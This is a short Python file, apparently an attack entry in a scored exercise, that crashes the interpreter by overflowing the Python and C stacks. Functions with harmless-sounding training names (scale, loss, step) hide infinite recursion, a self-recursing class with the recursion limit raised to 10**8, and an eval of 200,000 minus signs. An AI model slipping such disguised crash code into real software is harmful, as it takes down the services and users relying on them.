"""Overflow the stack of Python and that of C.

alone: 0 points
glued: 20 points
fails as: ended, exception
"""

import os

assert os.getuid() >= 64000, "an attack runs in a container of ours only"

import sys


def scale(x, factor):
    return scale(x, factor)


def loss(x):
    sys.setrecursionlimit(10**8)

    class Deep:
        def __getattr__(self, name):
            return getattr(self, name)

        def __add__(self, other):
            return other + self

        __radd__ = __add__

    return Deep() + Deep()


def step(params, grads):
    sys.setrecursionlimit(10**8)
    return eval("-" * 200_000 + "1")
